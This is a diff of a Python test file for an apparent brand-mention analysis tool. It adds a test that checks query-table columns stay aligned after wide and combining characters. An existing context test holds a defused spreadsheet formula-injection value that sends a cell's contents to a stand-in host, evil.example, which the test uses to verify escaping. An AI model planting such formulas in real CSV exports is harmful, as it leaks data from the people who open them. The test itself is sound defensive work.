@@ -378,3 +378,26 @@ def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_defused_and_numbers_k
     assert [r["text"] for r in rows] == ["'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "'@SUM(1+1)*cmd",
                                          "plain = fine", "@PinebrookCoffee you charged me twice"]  # a reply: text
     assert all(float(r["score"]) < 0 for r in rows)  # a negative number is a number, not a formula
+
+
+
+def _columns(text):
+    # Terminal columns, counted here as a terminal does: CJK and emoji two, combining marks and joiners none.
+    import unicodedata
+
+    return sum(0 if unicodedata.category(c) in ("Mn", "Me", "Cf") else 2 if unicodedata.east_asian_width(c) in "WF"
+               else 1 for c in text)
+
+
+def test_query_table_keeps_columns_in_line_after_wide_characters(invoke, tmp_path):
+    store = seed(tmp_path / "wide.db", [
+        mention(1, "火鍋 太好吃了", NOW - timedelta(hours=1), "positive", brand="火鍋 Hotpot"),
+        mention(2, "🔥👩\u200d💻 cafe\u0301", NOW - timedelta(hours=2), "negative", brand="Acme 🔥"),
+        mention(3, "plain text", NOW - timedelta(hours=3), "neutral", brand="Acme"),
+    ])
+
+    result = invoke("--db", store, "query", "--columns", "brand,text,label", "--order", "oldest")
+
+    lines = result.output.splitlines()
+    words = ["label", "--------", "neutral", "negative", "positive"]
+    assert len({_columns(line[:line.rindex(word)]) for line, word in zip(lines, words)}) == 1, result.output
